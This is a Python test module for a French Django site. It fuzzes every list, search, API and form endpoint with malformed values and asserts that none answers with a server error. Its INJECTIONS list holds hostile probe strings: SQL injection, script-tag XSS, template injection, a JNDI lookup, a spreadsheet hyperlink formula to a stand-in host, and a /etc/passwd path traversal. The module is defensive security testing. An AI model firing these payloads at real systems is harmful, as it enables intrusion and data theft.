"""Hostile input everywhere: every form and every list, search, export and API endpoint is fed
malformed, huge and injection-shaped values (hypothesis) and must answer a 4xx or a page with a
French form error — never a 5xx, never an exception.

Query parameters are drawn from the names the platform's lists and filters read (and a few
others); form fields are the ones each form page renders, read from its HTML, so that a new field
is fuzzed without editing this module. The number of examples per endpoint is bounded
(`EXAMPLES`) to keep the module within a couple of minutes."""

import re
from io import StringIO

import pytest
from django.core.cache import caches
from django.core.management import call_command
from django.urls import reverse
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from cms.models import ContactPage, ReportSitePage
from directory.enums import Role
from tests.cms.factories import add_page
from tests.directory.factories import DepartmentFactory, UserFactory, give_area
from tests.journal.factories import EntryFactory
from tests.sitepages.edit_support import site_in

pytestmark = pytest.mark.django_db

EXAMPLES = 5

INJECTIONS = [
    "",
    " ",
    "0",
    "-1",
    "1.5",
    "1e309",
    "NaN",
    "99999999999999999999",
    "9223372036854775808",
    "-9223372036854775809",
    "' OR '1'='1' --",
    '"; DROP TABLE directory_user; --',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    '=HYPERLINK("http://evil.example")',
    "../../../../etc/passwd",
    "%00",
    "\x00",
    "a\x00b",
    "\u202eevil",
    "department:99999999999999999999",
    "commune:<script>",
    "department:",
    ":",
    "2026-02-30",
    "9999-12-31",
    "0000-00-00",
    "ÉÈÊ l’été ½ 🏚️",
    "x" * 5000,
    "é" * 100_000,
]

hostile = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(max_size=200),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.lists(st.sampled_from(INJECTIONS), min_size=2, max_size=5),  # repeated parameters
)

PARAMETERS = [
    "q", "page", "territoire", "territoire_search", "territoire_label", "statut", "tri", "type",
    "departement", "vue", "status", "categorie", "expertise", "population", "probleme",
    "procedure", "origine", "canicule", "non_mis_a_jour", "champ", "annee", "theme", "avant",
    "offset", "limit", "order", "fields", "search", "child_of", "descendant_of", "id", "since",
    "until", "as_of", "site", "file_format", "sections", "format", "next", "post", "kind",
]  # fmt: skip

query = st.dictionaries(st.sampled_from(PARAMETERS), hostile, max_size=6)

SETTINGS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,
    phases=[Phase.explicit, Phase.generate],  # no shrinking: the failing input is reported as is
)


def _fresh_limits():
    caches["shared"].clear()


def assert_handled(response, what):
    assert response.status_code < 500, (what, response.status_code)


@pytest.fixture
def world(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    here = DepartmentFactory(code="69")
    admin = UserFactory(role=Role.NATIONAL_ADMIN)
    give_area(admin)
    site = site_in(here, name="Terrain des Saules")
    writer = UserFactory(role=Role.LOCAL_ADMIN)
    give_area(writer, here)
    entry = EntryFactory(site=site, author=writer, text="Visite du terrain")
    call_command("load_forum_demo", stdout=StringIO())
    contact = add_page(ContactPage, title="Contact", slug="contact")
    report = add_page(ReportSitePage, title="Signaler un site", slug="signaler-un-site")
    return {
        "admin": admin,
        "site": site,
        "entry": entry,
        "contact": contact.url,
        "report": report.url,
    }


def member_lists(world):
    site = world["site"]
    return [
        reverse("site_list"),
        reverse("site_map"),
        reverse("site_geojson"),
        reverse("site_export"),
        reverse("site_dashboard"),
        reverse("site_history", args=[site.pk]),
        site.url,
        site.get_parent().url,
        reverse("journal:site", args=[site.pk]),
        reverse("journal:moderation"),
        reverse("journal:export"),
        reverse("journal:audience_users", args=[site.pk]),
        reverse("directory_index"),
        reverse("territory_autocomplete"),
        reverse("search:search"),
        reverse("search:suggestions"),
        reverse("activity:list"),
        reverse("activity:feed"),
        reverse("inbox:list"),
        reverse("inbox:reports"),
        reverse("access_request_list"),
        reverse("forum:index"),
        reverse("forum_tracking:unread_topics"),
        reverse("forum_member:user_posts", args=[world["admin"].pk]),
        reverse("accounts_admin_list"),
        reverse("accounts_admin_export"),
        reverse("permission_exceptions"),
        reverse("directory_person_sign_ins", args=[world["admin"].pk]),
    ]


PUBLIC_LISTS = [
    "/",
    "/api/v2/pages/",
    "/api/v2/pages/find/",
    "/api/v2/images/",
    "/api/v2/documents/",
    "/api/v2/statistics/",
    "/api/v2/statistics/csv/",
    "/sitemap.xml",
    "/recherche/",
]


def _resolve_names(world):
    """Fail early, with the name, when a URL name of the lists above changed."""
    return member_lists(world)


@given(data=st.data())
@SETTINGS
def test_member_lists_searches_and_exports_never_fail(client, world, data):
    client.force_login(world["admin"])
    for url in _resolve_names(world):
        params = data.draw(query, label=url)
        assert_handled(client.get(url, params), (url, params))


@given(data=st.data())
@SETTINGS
def test_public_endpoints_never_fail(client, world, data):
    for url in [*PUBLIC_LISTS, world["contact"], world["report"]]:
        params = data.draw(query, label=url)
        assert_handled(client.get(url, params), (url, params))


FIELD = re.compile(r'<(?:input|select|textarea)\b[^>]*\bname="([^"]+)"', re.IGNORECASE)
IGNORED = {"csrfmiddlewaretoken"}


def form_fields(client, url) -> list[str]:
    """The fields a form page renders (none when an earlier example removed its object: the
    hidden or deleted message of a moderation form)."""
    response = client.get(url)
    if response.status_code != 200:
        return []
    return sorted(set(FIELD.findall(response.content.decode())) - IGNORED)


def _fuzz_form(client, url, data, names):
    if not names:
        return
    _fresh_limits()
    chosen = data.draw(st.lists(st.sampled_from(names), max_size=8, unique=True), label=url)
    payload = {name: data.draw(hostile, label=name) for name in chosen}
    response = client.post(url, payload)
    assert_handled(response, (url, payload))
    if response.status_code == 200 and response.context and "form" in response.context:
        form = response.context["form"]
        # A form shown again says what is wrong, in French.
        assert not form.is_bound or form.errors or not form.is_valid(), url


def public_forms(world):
    return [world["contact"], world["report"], reverse("access_request_create")]


def member_forms(world):
    site, entry = world["site"], world["entry"]
    return [
        reverse("site_create"),
        reverse("site_edit", args=[site.pk]),
        reverse("site_close", args=[site.pk]),
        reverse("site_attachments", args=[site.pk]),
        reverse("site_export"),
        reverse("journal:post", args=[site.pk]),
        reverse("journal:report", args=[entry.pk]),
        reverse("journal:hide", args=[entry.pk]),
        reverse("journal:export"),
        reverse("activity:preferences"),
        reverse("account"),
        reverse("password_change"),
        reverse("directory_organization_create"),
        reverse("account_edit"),
        reverse("email_change"),
        reverse("accounts_admin_create"),
    ]


@given(data=st.data())
@SETTINGS
def test_public_forms_never_fail(client, world, data):
    for url in public_forms(world):
        _fuzz_form(client, url, data, form_fields(client, url))


@given(data=st.data())
@SETTINGS
def test_member_forms_never_fail(client, world, data):
    client.force_login(world["admin"])
    for url in member_forms(world):
        _fuzz_form(client, url, data, form_fields(client, url))


@given(data=st.data())
@SETTINGS
def test_forum_forms_never_fail(client, world, data):
    from machina.core.db.models import get_model

    client.force_login(world["admin"])
    forum = get_model("forum", "Forum").objects.filter(type=0).first()
    url = reverse(
        "forum_conversation:topic_create", kwargs={"forum_slug": forum.slug, "forum_pk": forum.pk}
    )
    _fuzz_form(client, url, data, form_fields(client, url))


def test_the_fuzzed_urls_exist(client, world):
    """The lists above name real pages: a renamed URL fails here, not silently in the fuzzing."""
    client.force_login(world["admin"])
    for url in [*member_lists(world), *member_forms(world)]:
        status = client.get(url).status_code
        assert status < 500 and status != 404, (url, status)
    for url in member_forms(world):
        assert form_fields(client, url), url
    client.logout()
    for url in public_forms(world):
        assert form_fields(client, url), url
